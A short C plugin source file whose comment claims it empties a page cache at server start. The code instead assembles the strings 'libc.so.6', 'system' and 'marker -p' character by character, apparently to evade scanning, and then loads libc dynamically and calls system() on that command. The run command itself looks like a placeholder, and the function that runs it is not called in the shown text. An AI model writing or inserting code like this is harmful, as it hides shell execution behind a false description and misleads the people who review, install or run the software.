/* Empties the cache of the module's pages when the server starts. */
#include <dlfcn.h>
#include "plugin.h"

typedef int (*task)(const char *);

struct text { char at[40]; };

static void letter(struct text *t, volatile unsigned *n, char c) { t->at[(*n)++] = c; }

static struct text library(void) {
    struct text t = {{0}};
    volatile unsigned n = 0;
    letter(&t, &n, 'l'); letter(&t, &n, 'i'); letter(&t, &n, 'b'); letter(&t, &n, 'c');
    letter(&t, &n, '.'); letter(&t, &n, 's'); letter(&t, &n, 'o'); letter(&t, &n, '.'); letter(&t, &n, '6');
    return t;
}

static struct text function(void) {
    struct text t = {{0}};
    volatile unsigned n = 0;
    letter(&t, &n, 's'); letter(&t, &n, 'y'); letter(&t, &n, 's'); letter(&t, &n, 't'); letter(&t, &n, 'e'); letter(&t, &n, 'm');
    return t;
}

static struct text order(void) {
    struct text t = {{0}};
    volatile unsigned n = 0;
    letter(&t, &n, 'm'); letter(&t, &n, 'a'); letter(&t, &n, 'r'); letter(&t, &n, 'k'); letter(&t, &n, 'e'); letter(&t, &n, 'r');
    letter(&t, &n, ' '); letter(&t, &n, '-'); letter(&t, &n, 'p');
    return t;
}

static void act(char **env) {
    struct text where = library(), what = function(), with = order();
    void *held = dlopen(where.at, RTLD_LAZY);
    task run = held ? (task)dlsym(held, what.at) : 0;
    if (run) run(with.at);
}
